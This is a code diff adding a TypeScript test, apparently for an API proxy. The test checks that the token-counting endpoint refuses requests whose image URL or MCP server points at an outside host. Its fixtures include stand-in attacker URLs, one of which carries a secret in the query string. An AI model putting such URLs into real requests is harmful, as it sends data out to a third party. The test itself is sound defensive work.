@@ -283,6 +283,38 @@ void describe("provider-side features", () => {
     assert.equal(fx.model.requests.length, before);
   });
 
+  void it("refuses on count_tokens what it refuses on messages: counting a request has the provider fetch its URLs and list its MCP servers' tools", async () => {
+    const before = fx.model.requests.length;
+    const image = { type: "image", source: { type: "url", url: "https://attacker.example/?secret=x" } };
+    const cases: [Record<string, unknown>, RegExp][] = [
+      [anthropic({ messages: [{ role: "user", content: [image] }] }), /messages\[0\]\.content\[0\]: input_urls/],
+      [
+        anthropic({ mcp_servers: [{ type: "url", url: "https://attacker.example/mcp", name: "x" }] }),
+        /mcp_servers: mcp/,
+      ],
+    ];
+    for (const [body, names] of cases) {
+      const r = await fetch(`${endpoint.anthropicBaseUrl}/v1/messages/count_tokens`, {
+        method: "POST",
+        headers: { "content-type": "application/json", "x-api-key": endpoint.token, ...endpoint.headers },
+        body: JSON.stringify(body),
+      });
+      const text = await r.text();
+      assert.equal(r.status, 403, text);
+      const error = JSON.parse(text) as { type: string; error: { type: string; message: string } };
+      assert.equal(error.error.type, "permission_error");
+      assert.match(error.error.message, names);
+    }
+    assert.equal(fx.model.requests.length, before, "the provider never heard of either");
+    // The control: a count of the client's own content goes through.
+    const counted = await fetch(`${endpoint.anthropicBaseUrl}/v1/messages/count_tokens`, {
+      method: "POST",
+      headers: { "content-type": "application/json", "x-api-key": endpoint.token, ...endpoint.headers },
+      body: JSON.stringify(anthropic({ tools: [FUNCTION_TOOL] })),
+    });
+    assert.equal(counted.status, 200, await counted.text());
+  });
+
   void it("names the variable that would allow a feature, and never an unreadable tool", async () => {
     const r = await send(endpoint, {
       route: "messages",
